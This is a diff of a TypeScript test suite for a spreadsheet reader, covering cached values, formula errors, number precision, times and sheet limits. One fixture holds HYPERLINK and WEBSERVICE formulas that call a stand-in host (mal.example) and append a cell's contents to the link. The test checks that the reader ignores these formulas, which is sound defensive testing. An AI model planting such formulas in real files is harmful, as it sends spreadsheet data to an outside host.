@@ -1,7 +1,7 @@
 import { zipSync } from 'fflate/browser'
 import { describe, expect, test } from 'vitest'
-import { isFormulaError } from './formulaError.ts'
-import { hasLostLetters } from './lostLetters.ts'
+import { isErrorCell, shownOf, valueOf } from '../cells/cell.ts'
+import { hasLostLetters } from '../cells/lostLetters.ts'
 import { readTable } from './readTable.ts'
 import { largestFile, mostChangedRows, mostRows } from './table.ts'
 import { tableOfFile } from './tableOfFile.ts'
@@ -9,6 +9,12 @@ import { tableOfFile } from './tableOfFile.ts'
 const bytesOf = (text: string) => new TextEncoder().encode(text)
 const xml = (inside: string) => bytesOf(`<?xml version="1.0" encoding="UTF-8"?>${inside}`)
 const office = 'http://schemas.openxmlformats.org'
+
+/** What the cells of a file hold. */
+async function held(file: Uint8Array<ArrayBuffer>) {
+  const read = await readTable(file)
+  return 'problem' in read ? read.problem : read.rows.map((row) => row.map(valueOf))
+}
 
 /** A workbook as a program would hardly write it, its sheets given as the inside of their rows. */
 function workbook(sheets: Readonly<Record<string, string>>): Uint8Array<ArrayBuffer> {
@@ -69,8 +75,9 @@ describe('a workbook', () => {
       `<c r="A2" t="str"><f>HYPERLINK("https://mal.example/"&amp;A1,"Ball")</f><v>Ball</v></c>`,
       `<c r="B2"><f>WEBSERVICE("https://mal.example")+1</f><v>46353</v></c>`,
     ]
-    const found = await readTable(workbook({ Full: head + row(2, cells.join('')) }))
-    expect(found).toMatchObject({ names: ['títol', 'data'], rows: [['Ball', '46353']] })
+    expect(await held(workbook({ Full: head + row(2, cells.join('')) }))).toEqual([
+      ['Ball', '46353'],
+    ])
   })
 
   test.each([
@@ -84,14 +91,16 @@ describe('a workbook', () => {
   ])('does not have of a formula that came to %s what was not there', async (_what, cell, said) => {
     const cells = `${text('A2', 'Ball')}${cell}${text('C2', 'i més')}`
     const found = await readTable(workbook({ Full: head + row(2, cells) }))
-    expect(found).toMatchObject({ rows: [['Ball', said, 'i més']] })
-    expect(isFormulaError(said)).toBe(said.startsWith('#'))
+    const read = 'rows' in found ? (found.rows[0]?.[1] ?? '') : ''
+    expect(shownOf(read)).toBe(said)
+    expect(isErrorCell(read)).toBe(said.startsWith('#'))
   })
 
-  test('keeps long numbers as they are written there', async () => {
+  test('keeps long numbers to fifteen digits, which is all that a spreadsheet has', async () => {
     const cells = `<c r="A2"><v>1.2345678901234567E+25</v></c>${text('B2', '012')}`
-    const found = await readTable(workbook({ Full: head + row(2, cells) }))
-    expect(found).toMatchObject({ rows: [['1.2345678901234567E+25', '012']] })
+    expect(await held(workbook({ Full: head + row(2, cells) }))).toEqual([
+      ['1.23456789012346e+25', '012'],
+    ])
   })
 
   test('has moments to the minute, however many decimals they are written with', async () => {
@@ -108,10 +117,9 @@ describe('a workbook', () => {
         ),
       ),
     )
-    const found = await readTable(workbook({ Full: head + rows.join('') }))
-    expect(found).toMatchObject({
-      rows: hours.flatMap((hour) => [1, 2].map(() => ['Ball', `2026-10-03 ${hour}:00`])),
-    })
+    expect(await held(workbook({ Full: head + rows.join('') }))).toEqual(
+      hours.flatMap((hour) => [1, 2].map(() => ['Ball', `2026-10-03 ${hour}:00`])),
+    )
   })
 
   test('is read by the first sheet that holds anything, or by the one that is asked for', async () => {
@@ -130,19 +138,23 @@ describe('a workbook', () => {
 
   test('of which another sheet is broken is read by its first', async () => {
     const one = head + row(2, text('A2', 'Ball'))
-    const found = await readTable(workbook({ Un: one, Dos: one + row(2, text('A2', 'Ball')) }))
-    expect(found).toMatchObject({ rows: [['Ball', '']], sheet: 0, sheets: [''] })
+    const file = () => workbook({ Un: one, Dos: `${one}<row r="3"><c></row>` })
+    const sheets = ['Un', 'Dos']
+    expect(await readTable(file())).toMatchObject({ rows: [['Ball']], sheet: 0, sheets })
+    expect(await readTable(file(), { sheet: 1 })).toEqual({ problem: 'unreadable' })
   })
 
-  test('is bounded by the cells that would be laid out, and a blank far below is none', async () => {
+  test('is bounded by the cells that are laid out; a blank far below is none', async () => {
     const far = (cell: string) => workbook({ Full: head + row(2, text('A2', 'Ball')) + cell })
     const most = { mostCells: 100_000 }
     const blank = row(99_999, '<c r="XFD99999" s="1"/><c r="XFE99999"></c>')
-    expect(await readTable(far(blank), most)).toMatchObject({ rows: [['Ball', '']] })
+    const few = row(99_999, text('A99999', 'x')) + row(100_000, text('XFD100000', 'x'))
+    expect(await readTable(far(blank), most)).toMatchObject({ rows: [['Ball']] })
+    expect(await readTable(far(few), most)).toMatchObject({ places: [2, 99_999, 100_000] })
     for (const cells of [
-      row(99_999, text('A99999', ' ')),
-      row(3, text('XFD3', 'x')) + row(4, text('XFD4', 'x')) + row(7, text('A7', 'x')),
-      '<row r="9999999"></row>',
+      [3, 4, 5, 6, 7, 8, 9].map((at) => row(at, text(`XFD${at}`, 'x'))).join(''),
+      row(3, text('XFE3', 'x')),
+      row(9_999_999, text('A9999999', 'x')),
       '<row r="99999999"></row>',
       '<row r="&#57;9999999"></row>',
     ])
@@ -210,10 +222,10 @@ describe('a table in letters that nobody said', () => {
 
 test.each(['#REF!', '#¡VALOR!', '#¿NOMBRE?', '#NOM?', '#N/D', ' #DIV/0! ', '#NULL!'])(
   'a formula came to an error in «%s»',
-  (text) => expect(isFormulaError(text)).toBe(true),
+  (text) => expect(isErrorCell(text)).toBe(true),
 )
 test.each(['#CULTURA', '#1', '#N', 'REF!', '«#REF!»', ''])('none did in «%s»', (text) =>
-  expect(isFormulaError(text)).toBe(false),
+  expect(isErrorCell(text)).toBe(false),
 )
 
 test('a file of fifty megabytes is refused before it is read', async () => {
